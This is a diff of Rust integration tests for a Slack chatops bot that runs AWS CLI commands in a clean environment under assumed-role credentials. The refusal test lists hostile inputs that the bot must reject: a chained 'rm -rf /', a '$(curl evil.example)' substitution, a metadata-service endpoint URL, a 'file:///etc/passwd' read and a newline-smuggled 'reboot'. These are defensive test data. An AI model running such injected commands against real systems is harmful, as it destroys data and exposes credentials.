@@ -46,6 +46,14 @@ case "$1 $2" in
 esac
 "#;
 
+/// One run of the fake `aws`: its argv, its environment, its pid.
+#[derive(Debug)]
+struct Run {
+    argv: Vec<String>,
+    env: Vec<(String, String)>,
+    pid: u32,
+}
+
 /// Everything a test needs: the fakes, the bot, where the fake `aws` records its runs, and
 /// the log lines the bot wrote.
 struct World {
@@ -85,6 +93,11 @@ impl std::io::Write for Writer {
 }
 
 async fn world(cli: Option<&str>) -> World {
+    world_with(cli, &[]).await
+}
+
+/// `world`, with environment overrides for the bot's configuration (the proxy variables).
+async fn world_with(cli: Option<&str>, overrides: &[(&str, &str)]) -> World {
     logs();
     let slack = fake_slack().await;
     let sts = FakeSts::start().await.unwrap();
@@ -92,7 +105,11 @@ async fn world(cli: Option<&str>) -> World {
     let records = scripts.path().join("records");
     std::fs::create_dir(&records).unwrap();
     let script = scripts.path().join("aws");
-    std::fs::write(&script, FAKE_AWS.replace("RECORDS", &records.display().to_string())).unwrap();
+    std::fs::write(
+        &script,
+        FAKE_AWS.replace("RECORDS", &records.display().to_string()),
+    )
+    .unwrap();
     use std::os::unix::fs::PermissionsExt;
     std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
     let cli = cli.map_or_else(|| script.display().to_string(), str::to_owned);
@@ -118,7 +135,7 @@ allow = ["ec2 describe-*"]
 "#,
         sts = sts.endpoint_url()
     );
-    let bot = RunningBot::start_with(&slack, 1, &extra).await;
+    let bot = RunningBot::start_with_env(&slack, 1, &extra, overrides).await;
     slack.wait_for_connections(1, 10 * SECOND).await.unwrap();
     World {
         slack,
@@ -145,14 +162,17 @@ impl World {
             if let Some(call) = found {
                 break call;
             }
-            assert!(tokio::time::Instant::now() < deadline, "no reply to {text:?}");
+            assert!(
+                tokio::time::Instant::now() < deadline,
+                "no reply to {text:?}"
+            );
             tokio::time::sleep(Duration::from_millis(10)).await;
         };
         (reply.params.to_string(), reply)
     }
 
-    /// The runs the fake `aws` recorded: (argv, environment, pid), oldest first.
-    fn runs(&self) -> Vec<(Vec<String>, Vec<(String, String)>, u32)> {
+    /// The runs the fake `aws` recorded, oldest first.
+    fn runs(&self) -> Vec<Run> {
         let mut dirs: Vec<PathBuf> = std::fs::read_dir(&self.records)
             .unwrap()
             .map(|e| e.unwrap().path())
@@ -167,7 +187,11 @@ impl World {
                     .filter_map(|l| l.split_once('='))
                     .map(|(k, v)| (k.to_owned(), v.to_owned()))
                     .collect();
-                (argv, env, read("pid").trim().parse().unwrap_or(0))
+                Run {
+                    argv,
+                    env,
+                    pid: read("pid").trim().parse().unwrap_or(0),
+                }
             })
             .collect()
     }
@@ -183,14 +207,20 @@ async fn a_command_runs_as_the_assumed_role_in_a_clean_environment() {
         )
         .await;
     assert_eq!(call.method, "chat.postMessage", "{reply}");
-    assert!(call.params.get("thread_ts").is_some(), "in the thread: {reply}");
+    assert!(
+        call.params.get("thread_ts").is_some(),
+        "in the thread: {reply}"
+    );
     assert!(reply.contains("i-0abc123"), "the JSON is shown: {reply}");
     assert!(reply.contains("```"), "in a code block: {reply}");
-    assert!(reply.contains("&lt;!channel&gt; web") && !reply.contains("<!channel>"), "inert: {reply}");
+    assert!(
+        reply.contains("&lt;!channel&gt; web") && !reply.contains("<!channel>"),
+        "inert: {reply}"
+    );
 
     let runs = w.runs();
     assert_eq!(runs.len(), 1);
-    let (argv, env, _) = &runs[0];
+    let Run { argv, env, .. } = &runs[0];
     assert_eq!(
         argv,
         &[
@@ -205,21 +235,43 @@ async fn a_command_runs_as_the_assumed_role_in_a_clean_environment() {
     let issued = w.sts.issued();
     assert_eq!(issued.len(), 1);
     let get = |key: &str| env.iter().find(|(k, _)| k == key).map(|(_, v)| v.as_str());
-    assert_eq!(get("AWS_ACCESS_KEY_ID"), Some(issued[0].access_key_id.as_str()));
-    assert_eq!(get("AWS_SECRET_ACCESS_KEY"), Some(issued[0].secret_access_key.as_str()));
-    assert_eq!(get("AWS_SESSION_TOKEN"), Some(issued[0].session_token.as_str()));
+    assert_eq!(
+        get("AWS_ACCESS_KEY_ID"),
+        Some(issued[0].access_key_id.as_str())
+    );
+    assert_eq!(
+        get("AWS_SECRET_ACCESS_KEY"),
+        Some(issued[0].secret_access_key.as_str())
+    );
+    assert_eq!(
+        get("AWS_SESSION_TOKEN"),
+        Some(issued[0].session_token.as_str())
+    );
     assert_eq!(get("AWS_REGION"), Some("ap-northeast-2"));
     assert_eq!(get("AWS_DEFAULT_REGION"), Some("ap-northeast-2"));
     assert_eq!(get("AWS_PAGER"), Some(""));
     assert_eq!(get("AWS_CONFIG_FILE"), Some("/dev/null"));
     assert_eq!(get("AWS_SHARED_CREDENTIALS_FILE"), Some("/dev/null"));
     let allowed: BTreeSet<&str> = [
-        "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AWS_REGION",
-        "AWS_DEFAULT_REGION", "AWS_PAGER", "AWS_CLI_AUTO_PROMPT", "AWS_CONFIG_FILE",
-        "AWS_SHARED_CREDENTIALS_FILE", "AWS_EC2_METADATA_DISABLED", "HOME", "TMPDIR", "PATH",
+        "AWS_ACCESS_KEY_ID",
+        "AWS_SECRET_ACCESS_KEY",
+        "AWS_SESSION_TOKEN",
+        "AWS_REGION",
+        "AWS_DEFAULT_REGION",
+        "AWS_PAGER",
+        "AWS_CLI_AUTO_PROMPT",
+        "AWS_CONFIG_FILE",
+        "AWS_SHARED_CREDENTIALS_FILE",
+        "AWS_EC2_METADATA_DISABLED",
+        "HOME",
+        "TMPDIR",
+        "PATH",
         "LANG",
         // Set by /bin/sh itself.
-        "PWD", "OLDPWD", "SHLVL", "_",
+        "PWD",
+        "OLDPWD",
+        "SHLVL",
+        "_",
     ]
     .into();
     let extra: Vec<&str> = env
@@ -227,7 +279,10 @@ async fn a_command_runs_as_the_assumed_role_in_a_clean_environment() {
         .map(|(k, _)| k.as_str())
         .filter(|k| !allowed.contains(k))
         .collect();
-    assert!(extra.is_empty(), "the child saw more than it should: {extra:?}");
+    assert!(
+        extra.is_empty(),
+        "the child saw more than it should: {extra:?}"
+    );
     // The bot's own credentials (support::aws_test_env: "test"/"test") signed AssumeRole and
     // never reached the child.
     assert!(env.iter().all(|(_, v)| v != "test"), "{env:?}");
@@ -240,9 +295,12 @@ async fn a_command_runs_as_the_assumed_role_in_a_clean_environment() {
     // A second command reuses the cached credentials.
     let (_, _) = w.ask(OPS, "ec2 describe-instances").await;
     assert_eq!(w.sts.calls().len(), 1, "credentials are cached");
-    let (argv, env, _) = &w.runs()[1];
+    let Run { argv, env, .. } = &w.runs()[1];
     assert_eq!(argv, &["ec2", "describe-instances", "--output", "json"]);
-    assert!(env.contains(&("AWS_REGION".into(), "eu-west-1".into())), "the default region");
+    assert!(
+        env.contains(&("AWS_REGION".into(), "eu-west-1".into())),
+        "the default region"
+    );
 
     let (_, dir) = w.bot.stop_keeping_store().await;
     let audit = audit_of(dir.path(), 10).await;
@@ -251,23 +309,69 @@ async fn a_command_runs_as_the_assumed_role_in_a_clean_environment() {
     assert_eq!(audit[1].channel, OPS);
     assert_eq!(audit[1].region.as_deref(), Some("ap-northeast-2"));
     assert_eq!(audit[1].argv[..2], ["ec2", "describe-instances"]);
-    assert!(matches!(audit[1].outcome, AwsRunOutcome::Exited { exit_code: Some(0), .. }));
+    assert!(matches!(
+        audit[1].outcome,
+        AwsRunOutcome::Exited {
+            exit_code: Some(0),
+            ..
+        }
+    ));
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn refusals_and_channels_are_answered_privately_and_nothing_runs() {
     let w = world(None).await;
     let cases = [
-        (OPS, "ec2 describe-instances; rm -rf /", "`;` is not allowed"),
-        (OPS, "ec2 describe-instances --instance-ids $(curl evil.example)", "`$` is not allowed"),
-        (OPS, "ec2 describe-instances --filters `id`", "only a `--query` value may hold it"),
-        (OPS, "ec2 describe-instances --endpoint-url http://169.254.169.254", "`--endpoint-url` is not allowed"),
-        (OPS, "ec2 describe-instances --filters file:///etc/passwd", "`file://` and `fileb://` are not allowed"),
-        (OPS, "ec2 describe-instances > /tmp/x", "`&gt;` is not allowed"),
-        (OPS, "secretsmanager get-secret-value --secret-id prod/db", "never run from chat"),
-        (OPS, "ec2 terminate-instances --instance-ids i-1", "not allowed in this channel"),
-        (EC2_ONLY, "lambda list-functions", "allowed here: `ec2 describe-*`"),
-        (ELSEWHERE, "ec2 describe-instances", "not enabled in this channel"),
+        (
+            OPS,
+            "ec2 describe-instances; rm -rf /",
+            "`;` is not allowed",
+        ),
+        (
+            OPS,
+            "ec2 describe-instances --instance-ids $(curl evil.example)",
+            "`$` is not allowed",
+        ),
+        (
+            OPS,
+            "ec2 describe-instances --filters `id`",
+            "only a `--query` value may hold it",
+        ),
+        (
+            OPS,
+            "ec2 describe-instances --endpoint-url http://169.254.169.254",
+            "`--endpoint-url` is not allowed",
+        ),
+        (
+            OPS,
+            "ec2 describe-instances --filters file:///etc/passwd",
+            "`file://` and `fileb://` are not allowed",
+        ),
+        (
+            OPS,
+            "ec2 describe-instances > /tmp/x",
+            "`&gt;` is not allowed",
+        ),
+        (
+            OPS,
+            "secretsmanager get-secret-value --secret-id prod/db",
+            "never run from chat",
+        ),
+        (
+            OPS,
+            "ec2 terminate-instances --instance-ids i-1",
+            "not allowed in this channel",
+        ),
+        (
+            EC2_ONLY,
+            "lambda list-functions",
+            "allowed here: `ec2 describe-*`",
+        ),
+        (
+            ELSEWHERE,
+            "ec2 describe-instances",
+            "not enabled in this channel",
+        ),
     ];
     for (channel, text, why) in cases {
         let (reply, call) = w.ask(channel, text).await;
@@ -275,15 +379,23 @@ async fn refusals_and_channels_are_answered_privately_and_nothing_runs() {
         assert!(reply.contains(why), "{text}: expected {why:?} in {reply}");
     }
     let ten_kb = "i".repeat(10 * 1024);
-    let (reply, _) = w.ask(OPS, &format!("ec2 describe-instances --instance-ids {ten_kb}")).await;
+    let (reply, _) = w
+        .ask(
+            OPS,
+            &format!("ec2 describe-instances --instance-ids {ten_kb}"),
+        )
+        .await;
     assert!(reply.contains("10240 bytes long"), "{reply}");
-    let (reply, _) = w.ask(OPS, "ec2 describe-instances --instance-ids \"i-1\nreboot\"").await;
+    let (reply, _) = w
+        .ask(OPS, "ec2 describe-instances --instance-ids \"i-1\nreboot\"")
+        .await;
     assert!(reply.contains("U+000A"), "{reply}");
     assert!(w.runs().is_empty(), "nothing ran: {:?}", w.runs());
     assert!(w.sts.calls().is_empty(), "no role was assumed");
 
-    // The per-channel allowlist lets its own operations through.
-    let (reply, call) = w.ask(EC2_ONLY, "ec2 describe-instances").await;
+    // The per-channel allowlist lets its own operations through (and one code fence around
+    // the command, typed to keep Slack from curling quotes, is not part of it).
+    let (reply, call) = w.ask(EC2_ONLY, "`ec2 describe-instances`").await;
     assert_eq!(call.method, "chat.postMessage", "{reply}");
     assert_eq!(w.runs().len(), 1);
 
@@ -304,7 +416,10 @@ async fn long_output_goes_to_a_file_slow_commands_are_killed_failures_show_stder
     let w = world(None).await;
     let (reply, call) = w.ask(OPS, "ec2 describe-images").await;
     assert_eq!(call.method, "chat.postMessage", "{reply}");
-    assert!(reply.contains("aws-ec2-describe-images.json") && reply.contains("cut at 1.0 MB"), "{reply}");
+    assert!(
+        reply.contains("aws-ec2-describe-images.json") && reply.contains("cut at 1.0 MB"),
+        "{reply}"
+    );
     let uploads = w.slack.uploads();
     assert_eq!(uploads.len(), 1);
     assert_eq!(uploads[0].filename, "aws-ec2-describe-images.json");
@@ -316,15 +431,25 @@ async fn long_output_goes_to_a_file_slow_commands_are_killed_failures_show_stder
 
     let (reply, _) = w.ask(OPS, "ec2 describe-regions").await;
     assert!(reply.contains("Stopped after 1s"), "{reply}");
-    let run = w.records.join(format!("run-{}", w.runs()[1].2));
-    let grandchild: u32 = std::fs::read_to_string(run.join("grandchild")).unwrap().trim().parse().unwrap();
-    for pid in [w.runs()[1].2, grandchild] {
-        eventually(5 * SECOND, "the killed process group to be gone", || gone(pid)).await;
+    let run = w.records.join(format!("run-{}", w.runs()[1].pid));
+    let grandchild: u32 = std::fs::read_to_string(run.join("grandchild"))
+        .unwrap()
+        .trim()
+        .parse()
+        .unwrap();
+    for pid in [w.runs()[1].pid, grandchild] {
+        eventually(5 * SECOND, "the killed process group to be gone", || {
+            gone(pid)
+        })
+        .await;
     }
 
     let (reply, _) = w.ask(OPS, "ec2 describe-volumes").await;
     assert!(reply.contains("exit 254"), "{reply}");
-    assert!(reply.contains("UnauthorizedOperation") && reply.contains("&lt;!here&gt;"), "{reply}");
+    assert!(
+        reply.contains("UnauthorizedOperation") && reply.contains("&lt;!here&gt;"),
+        "{reply}"
+    );
     w.bot.stop().await.unwrap();
 }
 
@@ -340,7 +465,10 @@ async fn audit_of(dir: &Path, limit: usize) -> Vec<chatops_bot::store::aws_runs:
 fn gone(pid: u32) -> bool {
     match std::fs::read_to_string(format!("/proc/{pid}/stat")) {
         Err(_) => true,
-        Ok(stat) => stat.rsplit(')').next().is_some_and(|rest| rest.trim_start().starts_with('Z')),
+        Ok(stat) => stat
+            .rsplit(')')
+            .next()
+            .is_some_and(|rest| rest.trim_start().starts_with('Z')),
     }
 }
 
@@ -357,23 +485,145 @@ async fn a_missing_cli_is_explained() {
 async fn credentials_never_reach_slack_the_logs_or_the_store() {
     let w = world(None).await;
     let (reply, _) = w.ask(OPS, "ec2 describe-key-pairs").await;
-    assert!(reply.contains("[redacted]"), "what the CLI printed of them is redacted: {reply}");
+    assert!(
+        reply.contains("[redacted]"),
+        "what the CLI printed of them is redacted: {reply}"
+    );
     w.ask(OPS, "ec2 describe-instances").await;
     w.ask(OPS, "ec2 describe-volumes").await;
     let issued = w.sts.issued();
     assert!(!issued.is_empty());
-    let slack_text: String = w.slack.calls().iter().map(|c| c.params.to_string()).collect();
+    let slack_text: String = w
+        .slack
+        .calls()
+        .iter()
+        .map(|c| c.params.to_string())
+        .collect();
     let (_, dir) = w.bot.stop_keeping_store().await;
     let store_bytes = read_all(dir.path());
     let log_text = String::from_utf8_lossy(&logs().lock().unwrap()).into_owned();
-    assert!(log_text.contains("AWS CLI run."), "the audit line is logged");
+    assert!(
+        log_text.contains("AWS CLI run."),
+        "the audit line is logged"
+    );
     for credentials in issued {
-        for secret in [credentials.access_key_id, credentials.secret_access_key, credentials.session_token] {
+        for secret in [
+            credentials.access_key_id,
+            credentials.secret_access_key,
+            credentials.session_token,
+        ] {
             assert!(!slack_text.contains(&secret), "{secret} in Slack");
             assert!(!log_text.contains(&secret), "{secret} in the logs");
-            assert!(!store_bytes.windows(secret.len()).any(|w| w == secret.as_bytes()), "{secret} in the store");
+            assert!(
+                !store_bytes
+                    .windows(secret.len())
+                    .any(|w| w == secret.as_bytes()),
+                "{secret} in the store"
+            );
         }
     }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_cli_goes_out_through_the_bots_proxy() {
+    // The fakes are on 127.0.0.1, which NO_PROXY keeps direct; the CLI gets the same route.
+    let overrides = [
+        ("HTTPS_PROXY", "http://squid:pr0xy-pa55@proxy.internal:3128"),
+        ("NO_PROXY", "127.0.0.1,localhost"),
+    ];
+    let w = world_with(None, &overrides).await;
+    let (reply, _) = w.ask(OPS, "ec2 describe-instances").await;
+    assert!(reply.contains("i-0abc123"), "{reply}");
+    let Run { env, .. } = &w.runs()[0];
+    let get = |key: &str| env.iter().find(|(k, _)| k == key).map(|(_, v)| v.as_str());
+    assert_eq!(
+        get("HTTPS_PROXY"),
+        Some("http://squid:pr0xy-pa55@proxy.internal:3128/")
+    );
+    assert_eq!(
+        get("NO_PROXY"),
+        Some("127.0.0.1,localhost,169.254.169.254,169.254.170.2,fd00:ec2::254")
+    );
+    assert_eq!(get("HTTP_PROXY"), None);
+    let slack_text: String = w
+        .slack
+        .calls()
+        .iter()
+        .map(|c| c.params.to_string())
+        .collect();
+    assert!(!slack_text.contains("pr0xy-pa55"));
+    w.bot.stop().await.unwrap();
+    let log_text = String::from_utf8_lossy(&logs().lock().unwrap()).into_owned();
+    assert!(
+        !log_text.contains("pr0xy-pa55"),
+        "the proxy password is never logged"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn credentials_are_renewed_before_they_expire_and_a_refused_role_is_reported() {
+    let w = world(None).await;
+    // Credentials that expire within 5 minutes are never used again: each run assumes anew.
+    w.sts.set_lifetime(Some(Duration::from_secs(200)));
+    w.ask(OPS, "ec2 describe-instances").await;
+    w.ask(OPS, "ec2 describe-instances").await;
+    assert_eq!(w.sts.calls().len(), 2);
+    let runs = w.runs();
+    assert_ne!(
+        runs[0].env, runs[1].env,
+        "the second run has the new credentials"
+    );
+
+    w.sts.set_lifetime(None);
+    w.sts.set_access_denied(true);
+    let (reply, call) = w.ask(OPS, "ec2 describe-instances").await;
+    assert_eq!(call.method, "chat.postEphemeral", "{reply}");
+    assert!(
+        reply.contains("AWS STS (aws_commands.role_arn) failed"),
+        "{reply}"
+    );
+    assert_eq!(w.runs().len(), 2, "nothing ran without credentials");
+
+    let (_, dir) = w.bot.stop_keeping_store().await;
+    let audit = audit_of(dir.path(), 10).await;
+    assert!(
+        matches!(&audit[0].outcome, AwsRunOutcome::Failed { kind, .. } if kind == "credentials"),
+        "{:?}",
+        audit[0]
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn at_most_four_commands_run_at_once() {
+    let w = world(None).await;
+    // Five slow commands at once (each runs until the 1 s timeout kills it): one is refused.
+    let before = w.slack.calls().last().map_or(0, |c| c.seq);
+    for _ in 0..5 {
+        let mention = envelopes::app_mention(OPS, "U0ALICE", "<@U0BOT> aws ec2 describe-regions");
+        w.slack.send(Target::Any, mention).await.unwrap();
+    }
+    let replies = || {
+        w.slack
+            .calls()
+            .into_iter()
+            .filter(|c| c.seq > before)
+            .filter(|c| matches!(c.method.as_str(), "chat.postMessage" | "chat.postEphemeral"))
+            .map(|c| c.params.to_string())
+            .collect::<Vec<_>>()
+    };
+    eventually(10 * SECOND, "five replies", || replies().len() == 5).await;
+    let replies = replies();
+    let busy = replies
+        .iter()
+        .filter(|r| r.contains("already running"))
+        .count();
+    let stopped = replies
+        .iter()
+        .filter(|r| r.contains("Stopped after 1s"))
+        .count();
+    assert_eq!((busy, stopped), (1, 4), "{replies:#?}");
+    assert_eq!(w.runs().len(), 4);
+    w.bot.stop().await.unwrap();
 }
 
 /// Every file under `dir` (the database, its WAL), concatenated.
